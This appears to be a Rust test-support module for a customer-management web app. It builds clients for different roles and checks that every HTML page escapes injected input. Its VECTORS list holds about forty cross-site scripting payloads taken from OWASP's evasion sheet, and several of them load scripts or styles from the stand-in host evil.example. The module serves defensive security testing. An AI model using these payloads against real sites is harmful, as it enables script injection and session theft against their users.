//! A house, and an attacker who knows its addresses.

use axum::body::Body;
use axum::http::{Method, StatusCode, header};
use foundation::args;
use foundation::db::{Query, Sql};
use foundation::id::Id;
use foundation::team::Role;
use foundation::testing::{Answer, Client, for_each_database};
use serde_json::{Value, json};

use crate::house::{House, all_routes};

/// What a letter, a name or a tag may bring along: OWASP's filter evasion sheet, and what got through in the
/// advisories. Each ends in a call of a name of its own, so that one is not taken for another.
pub const VECTORS: &[&str] = &[
    "<script>zz()</script>",
    "<ScRiPt>zz()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\u{a0}>zz()</script>",
    "</script><script>zz()</script>",
    "</title><script>zz()</script>",
    "</textarea><script>zz()</script>",
    "--><script>zz()</script>",
    "]]><script>zz()</script>",
    "<img src=x onerror=zz()>",
    "<img src=x onerror=\"zz()\">",
    "<img/src=x/onerror=zz()>",
    "<IMG SRC=JaVaScRiPt:zz()>",
    "<svg onload=zz()>",
    "<svg><script>zz()</script></svg>",
    "<svg><animate onbegin=zz() attributeName=x>",
    "<math><mi xlink:href=\"javascript:zz()\">x",
    "<body onload=zz()>",
    "<iframe src=javascript:zz()>",
    "<iframe srcdoc=\"<script>zz()</script>\">",
    "<object data=javascript:zz()>",
    "<embed src=javascript:zz()>",
    "<a href=javascript:zz()>x</a>",
    "<a href=\"java\tscript:zz()\">x</a>",
    "<form action=javascript:zz()><button>x",
    "<input autofocus onfocus=zz()>",
    "<details open ontoggle=zz()>",
    "<video><source onerror=zz()>",
    "<marquee onstart=zz()>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:zz()\">",
    "<base href=//evil.example/>",
    "<noscript><p title=\"</noscript><img src=x onerror=zz()>\">",
    "<template><script>zz()</script></template>",
    "\"><script>zz()</script>",
    "'><script>zz()</script>",
    "\" onmouseover=\"zz()",
    "' onmouseover='zz()",
    "\" autofocus hx-on:load=\"zz()",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "&lt;script&gt;zz()&lt;/script&gt;<b>",
];

pub struct Desk {
    pub house: House,
    pub admin: Client,
    pub agent: Client,
    /// A manager who sees only their own customer.
    pub stranger: Client,
}

/// Runs `body` on each engine, in a house of its own.
pub async fn on_each(body: impl AsyncFn(Desk)) {
    for_each_database(async |db, clock| {
        let house = House::new(db, clock).await;
        let as_role = |role: Role| house.client.as_account(house.account(role));
        let (admin, agent) = (as_role(Role::Administrator), as_role(Role::Agent));
        let stranger = house.client.as_account(house.stranger);
        body(Desk { house, admin, agent, stranger }).await;
    })
    .await;
}

impl Desk {
    /// How many rows a statement counts.
    pub async fn count(&self, sql: &'static str) -> i64 {
        self.house.app.db.one::<(i64,)>(Sql::from(sql), args![]).await.unwrap().0
    }

    pub async fn customer(&self, body: Value) -> Answer {
        self.agent.json(Method::POST, "/api/v1/customers", &body).await
    }

    /// A new customer called `name`.
    pub async fn named(&self, name: &str) -> Id {
        let made = self.customer(json!({ "kind": "person", "name": name })).await;
        assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
        Id::parse(made.json()["id"].as_str().unwrap()).unwrap()
    }

    pub async fn note(&self, customer: Id, subject: &str, text: &str) -> Answer {
        let body = json!({ "kind": "call", "subject": subject, "body": text, "outcome": subject });
        self.agent.json(Method::POST, &format!("/api/v1/customers/{customer}/timeline"), &body).await
    }

    /// Attaches a file to a note about `customer`; its address, as the record shows it.
    pub async fn attach(&self, customer: Id, name: &str, kind: &str, content: &[u8]) -> String {
        let mut form = format!(
            "--x\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nnote\r\n\
             --x\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nsee the file\r\n\
             --x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: {kind}\r\n\r\n"
        )
        .into_bytes();
        form.extend_from_slice(content);
        form.extend_from_slice(b"\r\n--x--\r\n");
        let known = self.files().await;
        let request = self.agent.request(Method::POST, &format!("/customers/{customer}/entries"));
        let request = request.header(header::CONTENT_TYPE, "multipart/form-data; boundary=x");
        let answer = self.agent.send(request, Body::from(form)).await;
        assert!(!answer.status.is_server_error() && !answer.status.is_client_error(), "{}", answer.body);
        let file = self.files().await.into_iter().find(|file| !known.contains(file));
        format!("/files/{}/x", file.expect("the file was kept"))
    }

    async fn files(&self) -> Vec<Id> {
        let rows: Vec<(Id,)> = self.house.app.db.all("select id from file", args![]).await.unwrap();
        rows.into_iter().map(|(id,)| id).collect()
    }

    /// The key in the link by which an administrator invites somebody.
    pub async fn invited(&self, email: &str, role: &str) -> String {
        let form = [("name", "New Colleague"), ("email", email), ("role", role), ("reach", "everyone")];
        let made = self.admin.post("/settings/team/accounts", &form).await;
        let shown = if made.status.is_redirection() {
            self.admin.get(made.header("location")).await.body
        } else {
            made.body
        };
        let (_, rest) = shown.split_once("/invitation?key=").unwrap_or_else(|| panic!("no link: {shown}"));
        rest.chars().take_while(|c| c.is_ascii_alphanumeric() || "-_".contains(*c)).collect()
    }

    /// The session that an invitation gives to whoever sets a password.
    pub async fn accept(&self, key: &str, password: &str) -> Answer {
        self.house
            .client
            .post("/invitation", &[("key", key), ("password", password), ("again", password)])
            .await
    }

    /// Asks for a page with nothing but a session's cookie.
    pub async fn with_cookie(&self, cookie: &str, path: &str) -> Answer {
        let request = self.house.client.request(Method::GET, path).header(header::COOKIE, cookie);
        self.house.client.send(request.header(header::ACCEPT, "text/html"), Body::empty()).await
    }
}

/// The `name=value` of the cookie that an answer sets.
pub fn cookie(answer: &Answer) -> String {
    answer.header("set-cookie").split(';').next().unwrap_or_default().to_owned()
}

/// Everything an administrator can look at about a customer.
pub async fn pages_about(desk: &Desk, customer: Id) -> Vec<(String, Answer)> {
    let mut pages = Vec::new();
    for route in all_routes() {
        if route.method.is_safe() && !route.path.ends_with("/live") {
            let address = desk.house.address(&route, customer);
            pages.push((route.path.to_owned(), desk.admin.get(&address).await));
        }
    }
    pages
}

/// No answer that a browser reads as a page has `vector` in it as it was sent.
pub fn assert_is_text(place: &str, answer: &Answer, vector: &str) {
    let is_page = answer.header("content-type").starts_with("text/html");
    assert!(!is_page || !answer.body.contains(vector), "{place} shows {vector} raw");
    for start in ["href=\"javascript:", "src=\"javascript:", "action=\"javascript:", "href=\"data:text"] {
        assert!(!is_page || !answer.body.to_lowercase().contains(start), "{place} has {start}");
    }
}
